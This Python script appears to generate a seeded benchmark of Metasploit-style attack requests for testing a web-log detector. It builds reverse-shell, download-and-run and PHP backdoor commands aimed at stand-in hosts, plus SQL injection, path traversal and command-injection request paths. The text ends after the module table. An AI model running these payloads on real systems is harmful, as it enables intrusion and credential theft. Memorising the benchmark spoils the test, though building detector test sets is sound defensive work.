#!/usr/bin/env python3
# Writes attacks.log, attacks.labels, requests.tsv, benign.log, benign.labels and README.md
# of tests/bench/data/thirdparty15 (fixed seed: the output is byte-identical on every run).
# Python 3 standard library only.  Written without reading policies/ or the detector.
#
# Angle of this set: Metasploit Framework HTTP modules (rapid7/metasploit-framework, BSD
# licence).  One attacking source per sampled module, sending ONE request: the request
# that carries the exploit (payload delivery, traversal, injection or auth bypass), with
# the module's default options evaluated.  Only facts about each request are kept
# (method, path, query, and where the payload travels); no module text is copied.
#
#   python3 gen.py            rewrites the six files next to this script
#   python3 gen.py --check    also checks that no address here appears in any other
#                             set's *.log under tests/bench/data, and that no CVE here
#                             is named in another set's requests.tsv or *.labels
#                             (exit status 1 if either happens)
import base64, collections, datetime, glob, hashlib, ipaddress, os, random, re, sys

OUT = os.path.dirname(os.path.abspath(__file__))
SEED = 20261130
DAY = datetime.datetime(2026, 11, 30, 0, 0, 0)
SITE = 'www.example.org'
ATTACK_NET = ipaddress.ip_network('100.72.64.0/20')
BENIGN_NET = ipaddress.ip_network('100.73.160.0/20')
SNAPSHOT = '73737ce70ac6ed44411c09ba95b3a7d3f5f3ee8a'   # rapid7 history as read (merge of PR #21717)

# ----------------------------------------------------------------- user agents
# Browser releases current at the end of November 2026 (Chrome/Edge 154-155,
# Firefox 156-157, Safari 27.0/27.1; iOS keeps reporting "OS 18_7").
UA = {
 'chw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36",
 'chw4': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36",
 'chm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36",
 'chl': "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36",
 'ffw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:157.0) Gecko/20100101 Firefox/157.0",
 'ffw6': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:156.0) Gecko/20100101 Firefox/156.0",
 'ffl': "Mozilla/5.0 (X11; Linux x86_64; rv:157.0) Gecko/20100101 Firefox/157.0",
 'ffm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:157.0) Gecko/20100101 Firefox/157.0",
 'sfm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.1 Safari/605.1.15",
 'sfm0': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.0 Safari/605.1.15",
 'edg': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36 Edg/155.0.0.0",
 'edg4': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36 Edg/154.0.0.0",
 'ios': "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.1 Mobile/15E148 Safari/604.1",
 'and': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Mobile Safari/537.36",
}
BROWSERS = ['chw', 'chw', 'chw', 'chw4', 'chm', 'chm', 'chl', 'ffw', 'ffw', 'ffw6', 'ffl', 'ffm',
            'sfm', 'sfm0', 'edg', 'edg', 'edg4', 'ios', 'and']

# ----------------------------------------------------------------- Rex encodings and payloads
ALPHA_U = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'
ALPHA_L = 'abcdefghijklmnopqrstuvwxyz'
DIGITS = '0123456789'
B64 = ALPHA_U + ALPHA_L + DIGITS + '+/'
LHOSTS = ['203.0.113.7', '203.0.113.54', '198.51.100.23', '192.0.2.77']
LPORTS = [4444, 4444, 443, 8443, 9001, 1337]
# generic file-format prefixes (DOS stub of a PE file, ELF header) that a command stager
# writes first; the rest of each stager line is seeded random base64
PE_B64 = ('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'
          'gAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAAA')
ELF_B64 = 'f0VMRgEBAQAAAAAAAAAAAAIAAwABAAAAVIAECDQAAAAAAAAAAAAAADQAIAABAAAAAAAAAAEAAAAAAAAAAIAECACABAj'
ALPHA_MIXED = 'PYIIIIIIIIIIIIIIII7QZjAXP0A0AkAAQ2AB2BB0BBABXP8ABuJI'   # alphanumeric decoder head


def hexenc(s, keep):
    """Rex::Text.uri_encode: bytes outside `keep` become lowercase %xx"""
    out = []
    for ch in s:
        o = ord(ch)
        if ch in keep:
            out.append(ch)
        elif o < 256:
            out.append('%%%02x' % o)
        else:
            out.extend('%%%02x' % b for b in ch.encode('utf-8'))
    return ''.join(out)

NORMAL = set(ALPHA_U + ALPHA_L + DIGITS + '/\\.-_~')     # 'hex-normal', the default for vars_get
NOSLASH = set('/\\')                                      # 'hex-noslashes'
CGI_SAFE = set(ALPHA_U + ALPHA_L + DIGITS + '*-._')        # Ruby CGI.escape


class Ctx:
    """seeded stand-ins for the module's random values and payloads"""
    def __init__(self, r):
        self.r = r
        self.lhost = r.choice(LHOSTS)
        self.lport = r.choice(LPORTS)

    # rand_text_*
    def _pick(self, chars, n):
        return ''.join(self.r.choice(chars) for _ in range(n))
    def a(self, n): return self._pick(ALPHA_U + ALPHA_L, n)
    def al(self, n): return self._pick(ALPHA_L, n)
    def au(self, n): return self._pick(ALPHA_U, n)
    def an(self, n): return self._pick(ALPHA_U + ALPHA_L + DIGITS, n)
    def d(self, n): return self._pick(DIGITS, n)
    def h(self, n): return self._pick('0123456789abcdef', n)
    def rng(self, lo, hi): return self.r.randint(lo, hi)
    def english(self, n): return ''.join(chr(self.r.randint(0x21, 0x7e)) for _ in range(n))
    def uuid(self): return '-'.join(self.h(k) for k in (8, 4, 4, 4, 12))
    def shuffled(self, lst):
        lst = list(lst)
        self.r.shuffle(lst)
        return lst

    # encodings
    def q(self, s): return hexenc(s, NORMAL)
    def qa(self, s): return hexenc(s, set())
    def qn(self, s): return hexenc(s, NOSLASH)
    def cgi(self, s):
        return ''.join(ch if ch in CGI_SAFE else '+' if ch == ' ' else '%%%02X' % ord(ch) for ch in s)
    def tohex(self, s): return ''.join('%%%02x' % ord(ch) for ch in s)
    def b64(self, s): return base64.b64encode(s.encode('latin-1')).decode()
    def xor(self, text, key): return ''.join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(text))

    # machine code: an encoded payload looks like random bytes without the module's bad characters
    def sc(self, n, bad=''):
        ok = [chr(b) for b in range(256) if chr(b) not in bad]
        return ''.join(self.r.choice(ok) for _ in range(n))
    def alpha_mixed(self, n):
        return ALPHA_MIXED + self.an(n - len(ALPHA_MIXED))

    # command payloads
    def cmd(self):
        h, p, r = self.lhost, self.lport, self.r
        k = r.randrange(6)
        if k == 0:
            fd = r.randint(20, 200)
            return "bash -c '0<&%d-;exec %d<>/dev/tcp/%s/%d;sh <&%d >&%d 2>&%d'" % (fd, fd, h, p, fd, fd, fd)
        if k == 1:
            return "bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1'" % (h, p)
        if k == 2:
            f = self.al(6)
            return 'mkfifo /tmp/%s; nc %s %d 0</tmp/%s | /bin/sh >/tmp/%s 2>&1; rm /tmp/%s' % (f, h, p, f, f, f)
        if k == 3:
            return self.fetch_cmd()
        if k == 4:
            f = self.an(8)
            return 'wget -qO /tmp/%s http://%s:8080/%s;chmod +x /tmp/%s;/tmp/%s&' % (f, h, self.an(12), f, f)
        return 'curl -s http://%s:8080/%s|sh' % (h, self.an(10))
    def fetch_cmd(self):
        f = self.an(8)
        return 'curl -so /tmp/%s http://%s:8080/%s;chmod +x /tmp/%s;/tmp/%s&' % (f, self.lhost, self.an(22), f, f)
    def cmd_openssl(self):
        h, p = self.lhost, self.lport
        return ("sh -c '(sleep %d|openssl s_client -quiet -connect %s:%d|while : ; do sh && break; done 2>&1"
                "|openssl s_client -quiet -connect %s:%d >/dev/null 2>&1 &)'" % (self.rng(3000, 4999), h, p, h, p))
    def cmd_perl(self):
        return ("perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"%s:%d\");"
                "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'" % (self.lhost, self.lport))
    def cmdstager_linux(self):
        b, f = self.an(5), self.an(8)
        body = ELF_B64 + self._pick(B64, 150) + '=='
        return ("echo -n %s>>'/tmp/%s.b64' ; ((which base64 >&2) && (base64 -d - < '/tmp/%s.b64' > '/tmp/%s')) ; "
                "chmod +x '/tmp/%s' ; '/tmp/%s' ; rm -f '/tmp/%s' '/tmp/%s.b64'" % (body, b, b, f, f, f, f, b))
    def printf_stager(self):
        octs = ['\\177', '\\105', '\\114', '\\106', '\\2', '\\1', '\\1'] + ['\\%o' % self.r.randrange(256) for _ in range(110)]
        return "printf '%s'>>/tmp/%s" % (''.join(octs), self.al(5))
    def exe_b64(self, n):
        return PE_B64 + self._pick(B64, max(0, n - len(PE_B64)))
    def php(self):
        return ("$s=fsockopen('%s',%d);$p=proc_open('/bin/sh -i',array(0=>$s,1=>$s,2=>$s),$x);"
                % (self.lhost, self.lport))
    def php_b64(self):
        return 'eval(base64_decode(%s));' % self.b64(self.php()).rstrip('=')
    def include_url(self):
        return 'http://%s:8080/%s?' % (self.lhost, self.an(self.rng(6, 10)))
    def laravel_cipher(self, n):
        iv = base64.b64encode(bytes(self.r.randrange(256) for _ in range(16))).decode()
        val = base64.b64encode(bytes(self.r.randrange(256) for _ in range(n))).decode()
        js = '{"iv":"%s","value":"%s","mac":"%s","tag":""}' % (iv.replace('/', '\\/'), val.replace('/', '\\/'), self.h(64))
        return base64.b64encode(js.encode()).decode()

    # a few requests assembled the way one module builds them
    def nnm_ovutil(self):
        bad = '\x00\x09\x0a\x0b\x0c\x0d\x20\x22\x24\x2c\x3b\x60'
        buf = self.sc(276 - 13, bad) + self.sc(16, bad) + self.sc(360, bad)
        sel, act = self.an(1), self.an(1)
        if self.r.random() < 0.5:
            return ('GET', '/OvCgi/jovgraph.exe?sel=%s&act=%s&arg=%s' % (sel, act, self.q(buf)), 'query')
        return ('POST', '/OvCgi/jovgraph.exe', 'body-not-logged')
    def rabid(self):
        bad = ''.join(chr(c) for c in range(1, 14)) + '\x20'
        p = self.sc(380, bad)
        pat = ''.join('%s%s%d' % (u, l, n) for u in ALPHA_U for l in ALPHA_L for n in range(10))[:200]
        buf = p + self._pick(ALPHA_U + ALPHA_L, 2022 - len(p)) + self.sc(4, bad) + pat
        return '/?' + buf + self._pick(ALPHA_U + ALPHA_L, 3000 - len(buf))
    def tiki_graph(self):
        w, h, s, lo = self.rng(1, 999), self.rng(1, 999), self.rng(1, 500), self.rng(1, 999)
        func = self.r.choice(['abs', 'acos', 'cos', 'deg2rad', 'exp', 'floor', 'log10', 'sin', 'sqrt', 'tan'])
        f = 'passthru(' + '.'.join('chr(%d)' % ord(ch) for ch in 'echo YYY;cat db/local.php;echo YYY') + ')'
        return '/tikiwiki/tiki-graph_formula.php?w=%d&h=%d&s=%d&min=%d&max=%d&f[]=x.%s.%s&t=pdf' % (
            w, h, s, lo, lo + self.rng(1, 99), func, f)

# ----------------------------------------------------------------- the modules
# E(module path, product, category, CVE or '-', method, target, payload_where, ua=, ref=, status=)
# target: the request target as sent (already encoded the way the module encodes it), or
# a function of a seeded Ctx.  S(module path, reason): a sampled module that was skipped.
TABLE, SKIPPED = [], []
def E(path, product, cat, cve, method, target, where, ua=None, ref=None, status=None):
    TABLE.append(dict(path=path, product=product, cat=cat, cve=cve, method=method, target=target,
                      where=where, ua=ua, ref=ref, status=status))
def S(path, reason):
    SKIPPED.append((path, reason))

E('modules/auxiliary/gather/selenium_file_read.rb', 'Selenium Grid', 'lfi', '-', 'POST', lambda c: '/wd/hub/session/%s/url' % c.h(32), 'body-not-logged')
E('modules/exploits/windows/http/solarwinds_fsm_userlogin.rb', 'SolarWinds Firewall Security Manager', 'file-upload', 'CVE-2015-2284', 'POST', '/fsm/settings-new.jsp?action=uploadFile', 'body-not-logged')
E('modules/auxiliary/gather/avtech744_dvr_accounts.rb', 'AVTECH DVR', 'info-disclosure', '-', 'POST', '/cgi-bin/user/Config.cgi', 'body-not-logged')
E('modules/exploits/linux/http/cisco_rv_series_authbypass_and_rce.rb', 'Cisco RV34x', 'rce', 'CVE-2021-1472', 'POST', '/upload', 'header-not-logged')
E('modules/exploits/windows/http/disksorter_bof.rb', 'Disk Sorter Enterprise', 'bof', 'CVE-2017-7230', 'GET', lambda c: c.a(2488) + '\xeb\x06\x90\x90' + c.sc(4, '\x00\x09\x0a\x0d\x20\x26') + c.sc(32, '\x00\x09\x0a\x0d\x20\x26') + '\x90' * 10 + (lambda t: t + t)(c.a(4)) + c.sc(381, '\x00\x09\x0a\x0d\x20\x26') + c.a(5500), 'path')
E('modules/auxiliary/scanner/http/meteocontrol_weblog_extractadmin.rb', 'Meteocontrol WEBlog', 'info-disclosure', 'CVE-2016-2296', 'GET', '/html/en/confAccessProt.html', 'path')
E('modules/exploits/linux/http/invoiceshelf_unauth_rce_cve_2024_55556.rb', 'InvoiceShelf', 'deserialization', 'CVE-2024-55556', 'GET', '/login', 'header-not-logged')
E('modules/exploits/windows/http/generic_http_dll_injection.rb', 'generic PHP include (UNC DLL)', 'rfi', '-', 'GET', lambda c: '/cgi-bin/function.php?argument=\\\\%s\\%s\\%s.dll' % (c.lhost, c.a(c.rng(4, 8)), c.a(8)), 'query')
E('modules/exploits/multi/http/phpmyadmin_3522_backdoor.rb', 'phpMyAdmin', 'rce', 'CVE-2012-5159', 'POST', '/phpMyAdmin/server_sync.php', 'body-not-logged')
E('modules/exploits/unix/webapp/horde_unserialize_exec.rb', 'Horde', 'deserialization', 'CVE-2014-1691', 'POST', '/horde/login.php', 'body-not-logged')
E('modules/exploits/unix/webapp/jquery_file_upload.rb', 'jQuery File Upload', 'file-upload', 'CVE-2018-9206', 'POST', '/jQuery-File-Upload/server/php/index.php', 'body-not-logged')
E('modules/exploits/unix/webapp/cakephp_cache_corruption.rb', 'CakePHP', 'deserialization', 'CVE-2010-4335', 'POST', '/', 'body-not-logged')
E('modules/auxiliary/gather/drupal_openid_xxe.rb', 'Drupal', 'xxe', 'CVE-2012-4554', 'POST', '/drupal/?q=node&destination=node', 'body-not-logged')
E('modules/exploits/linux/http/dlink_command_php_exec_noauth.rb', 'D-Link DIR-600/300', 'rce', 'CVE-2013-10048', 'POST', '/command.php', 'body-not-logged')
E('modules/auxiliary/scanner/http/manageengine_securitymanager_traversal.rb', 'ManageEngine Security Manager Plus', 'lfi', '-', 'GET', '/store?f=' + '../' * 10 + '/etc/passwd', 'query')
E('modules/exploits/multi/http/joomla_com_jce_unauth_file_upload_rce.rb', 'Joomla JCE', 'file-upload', 'CVE-2026-48907', 'POST', '/?option=com_jce', 'body-not-logged')
E('modules/exploits/linux/http/belkin_login_bof.rb', 'Belkin N750', 'bof', 'CVE-2014-1635', 'POST', '/login.cgi', 'body-not-logged')
E('modules/exploits/linux/http/axis_srv_parhand_rce.rb', 'Axis network camera', 'rce', 'CVE-2018-10661', 'POST', lambda c: '/index.html/%s.srv' % c.an(c.rng(8, 42)), 'body-not-logged')
E('modules/exploits/windows/http/easychatserver_seh.rb', 'Easy Chat Server', 'bof', 'CVE-2017-9544', 'POST', '/registresult.htm', 'body-not-logged')
E('modules/exploits/multi/http/spree_searchlogic_exec.rb', 'Spree Commerce', 'rce', 'CVE-2011-10026', 'GET', lambda c: '//api/orders.json?search[instance_eval]=Kernel.fork%20do%60' + c.qn(c.cmd()) + '%60end', 'query', ua='Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)')
S('modules/exploits/multi/http/flowise_auth_rce_cve_2026_41264.rb', 'login')
S('modules/exploits/windows/http/forticlient_ems_fctid_sqli.rb', 'not-http')
S('modules/auxiliary/scanner/http/joomla_pages.rb', 'not-exploit')
S('modules/exploits/linux/http/cisco_prime_inf_rce.rb', 'not-http')
S('modules/exploits/linux/http/skyvern_ssti_cve_2025_49619.rb', 'login')
E('modules/exploits/unix/webapp/clipbucket_upload_exec.rb', 'ClipBucket', 'file-upload', 'CVE-2013-10040', 'POST', lambda c: '/admin_area/charts/ofc-library/ofc_upload_image.php?name=%s.php' % c.an(c.rng(5, 14)), 'body-not-logged')
E('modules/exploits/linux/http/invoiceninja_unauth_rce_cve_2024_55555.rb', 'Invoice Ninja', 'deserialization', 'CVE-2024-55555', 'GET', lambda c: '/route/' + c.laravel_cipher(1180), 'path')
E('modules/exploits/linux/http/apache_continuum_cmd_exec.rb', 'Apache Continuum', 'rce', '-', 'POST', '/continuum/saveInstallation.action', 'body-not-logged')
E('modules/exploits/multi/http/mma_backdoor_upload.rb', 'Th3 MMA backdoor', 'file-upload', '-', 'POST', '/mma.php', 'body-not-logged')
E('modules/exploits/linux/http/panos_readsessionvars.rb', 'Palo Alto PAN-OS', 'auth-bypass', 'CVE-2017-15944', 'GET', lambda c: '/esp/cms_changeDeviceContext.esp?device=%s:%s%%27";user|s."%d";' % (c.al(c.rng(1, 10)), c.al(c.rng(1, 10)), c.rng(0, 1999)), 'query')
E('modules/exploits/unix/webapp/basilic_diff_exec.rb', 'Basilic', 'rce', 'CVE-2012-3399', 'GET', lambda c: '/basilic-1.5.14/Config/diff.php?file=' + c.q('&' + c.cmd() + ' #') + '&new=1&old=2', 'query')
E('modules/exploits/multi/http/freenas_exec_raw.rb', 'FreeNAS', 'rce', 'CVE-2010-20059', 'GET', lambda c: '/exec_raw.php?cmd=' + c.q('echo "<?php\n%s\n?>" > %s.php' % (c.php_b64(), c.au(c.rng(1, 5)))), 'query')
E('modules/exploits/multi/http/rails_web_console_v2_code_exec.rb', 'Ruby on Rails web-console', 'rce', 'CVE-2015-3224', 'PUT', lambda c: '/__web_console/repl_sessions/' + c.h(32), 'body-not-logged')
E('modules/exploits/windows/http/sap_configservlet_exec_noauth.rb', 'SAP NetWeaver ConfigServlet', 'rce', '-', 'GET', lambda c: '/ctc/servlet/ConfigServlet?param=com.sap.ctc.util.FileSystemConfig;EXECUTE_CMD;CMDLINE=' + c.q('cmd /c echo %s>>%%TEMP%%\\%s.b64' % (c.exe_b64(1400), c.a(5))), 'query')
E('modules/exploits/windows/http/hp_pcm_snac_update_certificates.rb', 'HP ProCurve Manager SNAC', 'file-upload', 'CVE-2013-4812', 'POST', '/RegWeb/RegWeb/UpdateCertificatesServlet', 'body-not-logged')
E('modules/exploits/unix/webapp/wp_advanced_custom_fields_exec.rb', 'Advanced Custom Fields (WordPress plugin)', 'rfi', 'CVE-2012-10025', 'POST', '/wp-content/plugins/advanced-custom-fields/core/actions/export.php', 'body-not-logged')
E('modules/exploits/linux/http/symantec_web_gateway_pbcontrol.rb', 'Symantec Web Gateway', 'rce', 'CVE-2012-2953', 'GET', lambda c: '/spywall/pbcontrol.php?filename=' + c.q('%s";%s;"' % (c.a(4), c.cmd())) + '&stage=0', 'query')
E('modules/auxiliary/gather/joomla_com_realestatemanager_sqli.rb', 'Joomla Real Estate Manager', 'sqli', '-', 'POST', '/index.php?option=com_realestatemanager&task=showCategory&catid=50&Itemid=132', 'body-not-logged')
E('modules/exploits/windows/http/hp_nnm_ovwebsnmpsrv_uro.rb', 'HP OpenView NNM', 'bof', 'CVE-2010-1960', 'POST', '/OvCgi/jovgraph.exe', 'body-not-logged')
E('modules/exploits/multi/http/sonicwall_gms_upload.rb', 'SonicWall GMS', 'file-upload', 'CVE-2013-1359', 'POST', '/appliance/applianceMainPage?skipSessionCheck=1', 'body-not-logged')
E('modules/exploits/windows/http/dup_scout_enterprise_login_bof.rb', 'Dup Scout Enterprise', 'bof', 'CVE-2017-13696', 'POST', '/login', 'body-not-logged')
E('modules/exploits/multi/http/oracle_access_manager_rce_cve_2021_35587.rb', 'Oracle Access Manager', 'deserialization', 'CVE-2021-35587', 'POST', '/oam/server/opensso/sessionservice', 'body-not-logged')
E('modules/exploits/windows/http/hp_nnm_ovwebsnmpsrv_ovutil.rb', 'HP OpenView NNM', 'bof', 'CVE-2010-1961', None, lambda c: c.nnm_ovutil(), None)
E('modules/exploits/windows/http/cogent_datahub_request_headers_bof.rb', 'Cogent DataHub', 'bof', 'CVE-2013-0680', 'GET', '/', 'header-not-logged')
E('modules/exploits/windows/http/belkin_bulldog.rb', 'Belkin Bulldog Plus', 'bof', 'CVE-2009-20009', 'GET', lambda c: c.sc(380, '\x00'), 'path')
E('modules/exploits/windows/http/rabidhamster_r4_log.rb', 'RabidHamster R4', 'bof', 'CVE-2012-10058', 'GET', lambda c: c.rabid(), 'query')
E('modules/exploits/linux/http/goautodial_3_rce_command_injection.rb', 'GoAutoDial', 'rce', 'CVE-2015-2845', 'GET', lambda c: '/index.php/go_site/cpanel/' + c.q('|echo -n %s |base64 --decode|bash' % c.b64(c.cmdstager_linux())), 'path', ua='Mozilla/5.0')
E('modules/exploits/linux/http/opendcim_install_sqli_rce.rb', 'openDCIM', 'sqli', 'CVE-2026-28515', 'POST', '/install.php', 'body-not-logged')
E('modules/exploits/multi/http/familycms_less_exec.rb', 'Family Connections', 'rce', 'CVE-2011-5130', 'GET', lambda c: '/fcms/dev/less.php?argv%5b1%5d=' + c.q('|echo %s;%s;echo %s;#' % (c.a(c.rng(5, 9)), c.cmd(), c.a(c.rng(5, 9)))), 'query')
S('modules/auxiliary/scanner/http/cisco_asa_clientless_vpn.rb', 'not-exploit')
E('modules/exploits/unix/webapp/twiki_maketext.rb', 'TWiki', 'rce', 'CVE-2012-6329', 'POST', lambda c: '/do/save/Sandbox/%s%s' % (c.al(3).capitalize(), c.al(3).capitalize()), 'body-not-logged')
E('modules/auxiliary/gather/emc_cta_xxe.rb', 'EMC Cloud Tiering Appliance', 'xxe', 'CVE-2014-0644', 'POST', '/api/login', 'body-not-logged')
E('modules/exploits/multi/http/jenkins_script_console.rb', 'Jenkins', 'rce', '-', 'POST', '/jenkins/script', 'body-not-logged')
E('modules/exploits/multi/http/gitorious_graph.rb', 'Gitorious', 'rce', '-', 'GET', lambda c: '/api/project/repo/log/graph/%60' + c.qn(c.cmd()).replace('%20', '%2520') + '%60', 'path')
E('modules/exploits/multi/http/rails_json_yaml_code_exec.rb', 'Ruby on Rails', 'deserialization', 'CVE-2013-0333', 'POST', '/', 'body-not-logged')
E('modules/exploits/windows/http/ca_arcserve_rpc_authbypass.rb', 'CA Arcserve D2D', 'info-disclosure', 'CVE-2011-3011', 'POST', '/contents/service/homepage', 'body-not-logged')
E('modules/auxiliary/scanner/http/dicoogle_traversal.rb', 'Dicoogle PACS', 'lfi', 'CVE-2018-25113', 'GET', '/exportFile?UID=' + '../' * 15 + '/windows/win.ini', 'query')
E('modules/exploits/multi/http/spree_search_exec.rb', 'Spree Commerce', 'rce', 'CVE-2011-10019', 'GET', lambda c: '/?search[send][]=eval&search[send][]=Kernel.fork%20do%60' + c.qn(c.cmd()) + '%60end', 'query', ua='Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)')
E('modules/exploits/windows/http/lg_simple_editor_rce.rb', 'LG Simple Editor', 'file-upload', 'CVE-2023-40498', 'POST', '/simpleeditor/imageManager/uploadImage.do', 'body-not-logged')
E('modules/auxiliary/scanner/http/canon_wireless.rb', 'Canon printer', 'info-disclosure', 'CVE-2013-4614', 'GET', '/English/pages_MacUS/wls_set_content.html', 'path')
E('modules/exploits/multi/http/hp_sitescope_uploadfileshandler.rb', 'HP SiteScope', 'auth-bypass', 'CVE-2012-3260', 'POST', '/SiteScope/services/APIPreferenceImpl', 'body-not-logged')
E('modules/auxiliary/gather/hp_snac_domain_creds.rb', 'HP ProCurve SNAC', 'info-disclosure', '-', 'GET', '/RegWeb/RegWeb/GetDomainControllerServlet', 'path')
E('modules/exploits/multi/http/xerte_unauthenticated_mediaupload.rb', 'Xerte Online Toolkits', 'file-upload', 'CVE-2026-34413', 'GET', lambda c: (lambda d: '/editor/elfinder/php/connector.php?uploadDir=' + c.q('/var/www/html/USER-FILES/1--Nottingham/') + '&uploadURL=' + c.q('http://%s/USER-FILES/1--Nottingham/' % SITE) + '&cmd=rename&target=' + c.q('l1_' + c.b64(d + '.txt').rstrip('=')) + '&name=' + c.q(d + '/../../../../' + d + '.php4'))(c.a(8)), 'query')
E('modules/exploits/unix/webapp/opensis_chain_exec.rb', 'openSIS', 'sqli', 'CVE-2020-13381', 'POST', '/CpSessionSet.php/index.php', 'body-not-logged')
E('modules/exploits/unix/webapp/barracuda_img_exec.rb', 'Barracuda Spam Firewall', 'rce', 'CVE-2005-2847', 'GET', lambda c: '/cgi-bin/img.pl?f=' + c.q('../' * 8 + 'bin/sh -c "echo \'YYY\'; %s; echo \'YYY\'"|' % c.cmd()), 'query')
E('modules/exploits/linux/http/kloxo_sqli.rb', 'Kloxo', 'sqli', 'CVE-2014-125123', 'GET', lambda c: '/lbin/webcommand.php?login-class=client&login-name=' + c.q("al5i' union select '$1$Tw5.g72.$/0X4oceEHjGOgJB/fqRww/' from client where ascii(substring(( select realpass from client limit 1),%d,1))=%d#" % (c.rng(8, 30), ord(c.r.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=')))) + '&login-password=123456', 'query')
E('modules/exploits/multi/http/pmwiki_pagelist.rb', 'PmWiki', 'rce', 'CVE-2011-4453', 'POST', '/pmwiki.php', 'body-not-logged')
E('modules/auxiliary/scanner/http/groupwise_agents_http_traversal.rb', 'Novell GroupWise', 'lfi', 'CVE-2012-0419', 'GET', '/help/' + '../' * 10 + 'windows\\win.ini', 'path')
E('modules/exploits/multi/http/eventlog_file_upload.rb', 'ManageEngine EventLog Analyzer', 'file-upload', 'CVE-2014-6037', 'POST', '/agentUpload', 'body-not-logged')
E('modules/exploits/multi/http/sonicwall_shell_injection_cve_2023_34124.rb', 'SonicWall GMS', 'sqli', 'CVE-2023-34124', 'GET', lambda c: '/ws/msw/tenant/' + c.cgi("' union select (select ID from SGMSDB.DOMAINS limit 1), '', '', '', '', '', (select concat(id, ':', password) from sgmsdb.users where active = '1' order by issuperadmin desc limit 1 offset 0),'', '', '").replace('+', '%20'), 'path')
E('modules/exploits/windows/http/ektron_xslt_exec.rb', 'Ektron CMS', 'rce', 'CVE-2012-5357', 'POST', '/cms400min/WorkArea/ContentDesigner/ekajaxtransform.aspx', 'body-not-logged')
E('modules/exploits/multi/http/wp_tatsu_rce.rb', 'Tatsu (WordPress plugin)', 'file-upload', 'CVE-2021-25094', 'POST', '/wp-admin/admin-ajax.php', 'body-not-logged')
E('modules/exploits/multi/http/openmrs_deserialization.rb', 'OpenMRS', 'deserialization', 'CVE-2018-19276', 'POST', '/ws/rest/v1/concept', 'body-not-logged')
E('modules/exploits/windows/http/zenworks_uploadservlet.rb', 'Novell ZENworks Configuration Management', 'file-upload', 'CVE-2010-5324', 'POST', lambda c: '/zenworks/UploadServlet?filename=../../webapps/%s.war' % c.an(c.rng(4, 31)), 'query')
E('modules/exploits/unix/webapp/awstats_migrate_exec.rb', 'AWStats', 'rce', 'CVE-2006-2237', 'GET', lambda c: '/cgi-bin/awstats.pl?migrate=|echo;echo%20YYY;' + c.q('cd /tmp &&' + c.cmd()) + ';echo%20YYY;echo|awstats' + c.d(6) + '.demo.txt', 'query')
S('modules/exploits/multi/http/visual_mining_netcharts_upload.rb', 'login')
E('modules/exploits/linux/http/ivanti_connect_secure_stack_overflow_rce_cve_2025_22457.rb', 'Ivanti Connect Secure', 'bof', 'CVE-2025-22457', 'GET', '/', 'header-not-logged', ua='-', status=400)
E('modules/exploits/linux/http/dtale_rce_cve_2025_0655.rb', 'D-Tale', 'rce', 'CVE-2025-0655', 'GET', lambda c: '/dtale/test-filter/%d?query=' % c.rng(1, 9) + c.q("@pd.core.frame.com.builtins.__import__('os').system('%s')" % c.fetch_cmd()) + '&save=true', 'query')
E('modules/exploits/multi/http/auxilium_upload_exec.rb', 'Auxilium RateMyPet', 'file-upload', 'CVE-2012-10038', 'POST', '/Auxiliumpetratepro/admin/sitebanners/upload_banners.php', 'body-not-logged')
E('modules/auxiliary/scanner/http/hp_imc_som_file_download.rb', 'HP Intelligent Management Center', 'lfi', 'CVE-2013-4826', 'GET', lambda c: '/servicedesk/servicedesk/fileDownload?OperType=2&fileName=' + c.q(c.b64('win.ini')) + '&filePath=' + c.q(c.b64('c:\\windows\\win.ini')), 'query')
E('modules/exploits/unix/webapp/projectpier_upload_exec.rb', 'Project Pier', 'file-upload', 'CVE-2012-10036', 'POST', '/pp088/tools/upload_file.php', 'body-not-logged')
E('modules/exploits/linux/http/nagios_xi_chained_rce_2_electric_boogaloo.rb', 'Nagios XI', 'rce', 'CVE-2018-8736', 'POST', lambda c: '/nagiosxi/backend/index.php?cmd=submitcommand&command=1111&command_data=' + c.q((lambda b: '$(cp /usr/local/nagiosxi/scripts/reset_config_perms.sh /usr/local/nagiosxi/scripts/%s ; echo "%s" > /usr/local/nagiosxi/scripts/reset_config_perms.sh ; sudo /usr/local/nagiosxi/scripts/reset_config_perms.sh) &' % (b, c.cmdstager_linux()))(c.a(c.rng(10, 14)))), 'query')
